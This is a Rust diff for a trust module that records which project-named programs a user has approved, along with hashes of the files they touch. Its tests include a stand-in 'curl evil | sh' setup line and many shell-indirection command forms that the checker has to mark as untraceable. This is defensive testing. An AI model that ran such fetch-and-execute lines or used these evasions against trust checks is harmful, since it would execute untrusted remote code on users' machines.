@@ -1,7 +1,9 @@
 //! Trust: programs that a project's files name are started only where this user has allowed exactly
 //! them. The list is in the user's own folder, never in the repository.
 
+mod commands;
 mod named_files;
+mod reach;
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -12,8 +14,9 @@ use baton_wire::project_file::ProjectCheck;
 use baton_wire::project_file::runner::{ExecutorKind, RunnerSettings};
 use serde::{Deserialize, Serialize};
 
-use self::named_files::{NamedPath, file_hash, named, named_files, unknowable};
-pub(crate) use self::named_files::{foreign_file, project_file};
+use self::named_files::{NamedPath, named, unknowable};
+pub(crate) use self::named_files::{foreign_file, foreign_program, own_command, project_file};
+use self::reach::Reach;
 
 /// What a project would have started: a name for each program, and the program with the hashes of the
 /// project's files that it names.
@@ -45,13 +48,25 @@ const MOST_LIST_BYTES: u64 = 1 << 20;
 const MOST_PROGRAM_BYTES: u64 = 64 << 20;
 
 impl Programs {
-    /// Everything that the settings of a project would start.
-    pub fn of(project: &Dir, settings: &RunnerSettings, checks: &[ProjectCheck]) -> Self {
+    /// Everything that the settings of a project would start. `env`: where git is found.
+    pub fn of(
+        project: &Dir,
+        settings: &RunnerSettings,
+        checks: &[ProjectCheck],
+        env: &[(String, String)],
+    ) -> Self {
         let mut programs = BTreeMap::new();
+        let described = |line: &str, words: &[String]| {
+            let reach = Reach::of(project, words);
+            described(project, line, words) + &reach.described(project, env)
+        };
+        let with_values = |line: &str, words: &[String]| {
+            let reach = Reach::of_values(project, &words[1..]);
+            self::described(project, line, words) + &reach.described(project, env)
+        };
         for (index, line) in settings.setup.iter().enumerate() {
-            // A shell reads it: the words are looked for in the line as a whole.
-            let words = [String::new(), line.clone()];
-            programs.insert(format!("setup {}", index + 1), described(project, line, &words));
+            let words = ["sh", "-c", line].map(str::to_owned);
+            programs.insert(format!("setup {}", index + 1), described(line, &words));
         }
         for executor in &settings.executors {
             let words = match &executor.kind {
@@ -79,22 +94,22 @@ impl Programs {
                 line += &format!(" (with {} of your environment)", executor.env.join(", "));
             }
             let name = format!("executor {}", executor.name);
-            programs.insert(name, described(project, &line, &words));
+            programs.insert(name, described(&line, &words));
         }
         for check in checks {
             let line = command_line(&check.run);
-            programs.insert(format!("check {}", check.name), described(project, &line, &check.run));
+            programs.insert(format!("check {}", check.name), described(&line, &check.run));
         }
         if !settings.env.is_empty() && !programs.is_empty() {
             let pairs = settings.env.iter().map(|(name, value)| format!("{name}={value}"));
             let line = command_line(&pairs.collect::<Vec<_>>());
             let values = settings.env.iter().map(|(_, value)| value.clone());
             let words: Vec<String> = std::iter::once(String::new()).chain(values).collect();
-            programs.insert("environment".to_owned(), described(project, &line, &words));
+            programs.insert("environment".to_owned(), with_values(&line, &words));
         }
         for file in &settings.env_files {
             let words = [String::new(), file.clone()];
-            programs.insert(format!("copied file {file}"), described(project, file, &words));
+            programs.insert(format!("copied file {file}"), with_values(file, &words));
         }
         Self(programs)
     }
@@ -141,7 +156,7 @@ impl Programs {
 /// In the place of a hash, where there can be none.
 const NO_TRUST: &str = "cannot be trusted";
 
-/// A command, and the files of the project that it names.
+/// A command, and what of it can never be trusted.
 fn described(project: &Dir, line: &str, words: &[String]) -> String {
     let mut text = line.to_owned();
     if let Some(program) = words.first()
@@ -154,15 +169,6 @@ fn described(project: &Dir, line: &str, words: &[String]) -> String {
     }
     for (part, why) in words.iter().flat_map(|it| unknowable(it)) {
         text += &format!("; {part} {NO_TRUST}: {why}");
-    }
-    match named_files(project, words) {
-        Ok(files) => {
-            for file in files {
-                let (name, hash) = (file.display(), file_hash(project, &file));
-                text += &format!("; {name} {hash}");
-            }
-        }
-        Err(many) => text += &format!("; {} {NO_TRUST}: {many}", many.pattern),
     }
     text
 }
@@ -230,25 +236,25 @@ mod tests {
         let file =
             settings("[executors.mine]\nkind = \"command\"\nrun = [\"python3\", \"agent.py\"]\n");
         let list = TrustList::new(state.path().join("baton/trusted"));
-        let first = Programs::of(&dir, &file, &[]);
+        let first = Programs::of(&dir, &file, &[], &[]);
         assert_ne!(list.trusted(project.path()).unwrap(), first, "a new project is not trusted");
         list.allow(project.path(), &first).unwrap();
         assert_eq!(list.trusted(project.path()).unwrap(), first);
         assert_ne!(list.trusted(state.path()).unwrap(), first, "another place is another project");
 
         std::fs::write(project.path().join("agent.py"), "print(2)").unwrap();
-        let now = Programs::of(&dir, &file, &[]);
+        let now = Programs::of(&dir, &file, &[], &[]);
         let changes = now.changes_since(&list.trusted(project.path()).unwrap());
         assert!(matches!(changes.as_slice(), [TrustChange::Changed { .. }]), "{changes:?}");
         let other = settings("[runner]\nsetup = [\"curl evil | sh\"]\n");
-        let changes = Programs::of(&dir, &other, &[]).changes_since(&first);
+        let changes = Programs::of(&dir, &other, &[], &[]).changes_since(&first);
         assert_eq!(changes.len(), 2, "one came and one went: {changes:?}");
     }
 
     fn programs(project: &Path, run: &[&str]) -> Programs {
         let run: Vec<String> = run.iter().map(|it| format!("{it:?}")).collect();
         let text = format!("[executors.mine]\nkind = \"command\"\nrun = [{}]\n", run.join(", "));
-        Programs::of(&Dir::open(project).unwrap(), &settings(&text), &[])
+        Programs::of(&Dir::open(project).unwrap(), &settings(&text), &[], &[])
     }
 
     #[test]
@@ -274,6 +280,58 @@ mod tests {
     }
 
     #[test]
+    fn what_cannot_be_followed_is_tied_to_every_file_and_said_so() {
+        let project = tempfile::tempdir().unwrap();
+        let root = project.path().canonicalize().unwrap();
+        std::fs::create_dir(root.join("tools")).unwrap();
+        std::fs::write(root.join("tools/a.sh"), "1").unwrap();
+        std::fs::write(root.join("tools/Makefile"), "1").unwrap();
+        let roundabout = format!(
+            "{}/../{}/tools/a.sh",
+            root.display(),
+            root.file_name().unwrap().to_str().unwrap()
+        );
+        let followed: [&[&str]; 3] =
+            [&["python3", "tools"], &["make", "-C", "tools"], &["pytest", "--rootdir=tools"]];
+        let unknown: [&[&str]; 15] = [
+            &["sh", "-c", "cd tools && sh ./a.sh"],
+            &["sh", &roundabout],
+            &["make", "-ftools/Makefile"],
+            &["make", "-Ctools"],
+            &["sh", "-c", "sh too''ls/a.sh"],
+            &["sh", "-c", "sh tools/\\a.sh"],
+            &["sh", "-c", "x=tools; sh $x/a.sh"],
+            &["sh", "-c", "sh $(echo tools)/a.sh"],
+            &["sh", "-c", "sh ~+/tools/a.sh"],
+            &["sh", "-c", "for f in *; do sh $f; done"],
+            &["find", ".", "-name", "a.sh", "-exec", "sh", "{}", ";"],
+            &["sh", "-c", "ls tools | xargs sh"],
+            &["python3", "-m", "tools"],
+            &["sh", "tools/../tools/a.sh"],
+            &["env", "bash", "-c", "sh `ls tools/a.sh`"],
+        ];
+        let all =
+            followed.iter().map(|it| (*it, false)).chain(unknown.iter().map(|it| (*it, true)));
+        for (run, is_unknown) in all {
+            std::fs::write(root.join("tools/a.sh"), "1").unwrap();
+            std::fs::write(root.join("tools/Makefile"), "1").unwrap();
+            let before = programs(&root, run);
+            assert_eq!(before.problems().count(), 0, "{before:?}");
+            let is_said = before.0["executor mine"].contains(reach::CANNOT_FOLLOW);
+            assert_eq!(is_said, is_unknown, "{before:?}");
+            std::fs::write(root.join("tools/a.sh"), "2").unwrap();
+            std::fs::write(root.join("tools/Makefile"), "2").unwrap();
+            assert_ne!(programs(&root, run), before, "{run:?}");
+        }
+        for run in [&["cargo", "test"][..], &["npm", "test"], &["grep", "-q", "ok", "tools/a.sh"]] {
+            let before = programs(&root, run);
+            std::fs::write(root.join("tools/a.sh"), "3").unwrap();
+            assert_eq!(programs(&root, run), before, "it is trusted as what it is: {run:?}");
+            std::fs::write(root.join("tools/a.sh"), "2").unwrap();
+        }
+    }
+
+    #[test]
     fn variables_and_copied_files_are_a_part_of_it_too() {
         let project = tempfile::tempdir().unwrap();
         let dir = Dir::open(project.path()).unwrap();
@@ -283,9 +341,9 @@ mod tests {
             std::fs::write(project.path().join(name), "1").unwrap();
         }
         for name in ["a", "b", "c", ".env"] {
-            let before = Programs::of(&dir, &settings(text), &[]);
+            let before = Programs::of(&dir, &settings(text), &[], &[]);
             std::fs::write(project.path().join(name), "2").unwrap();
-            let changes = Programs::of(&dir, &settings(text), &[]).changes_since(&before);
+            let changes = Programs::of(&dir, &settings(text), &[], &[]).changes_since(&before);
             assert_eq!(changes.len(), 1, "{name}: {changes:?}");
         }
     }
@@ -331,7 +389,7 @@ mod tests {
         let dir = Dir::open(project.path()).unwrap();
         let with = |env: &str| {
             let text = format!("[runner]\nsetup = [\"true\"]\n[runner.env]\n{env}\n");
-            Programs::of(&dir, &settings(&text), &[])
+            Programs::of(&dir, &settings(&text), &[], &[])
         };
         assert_ne!(with("A = \"1\"\nB = \"2\""), with("A = \"1 B=2\""), "variables alike");
     }
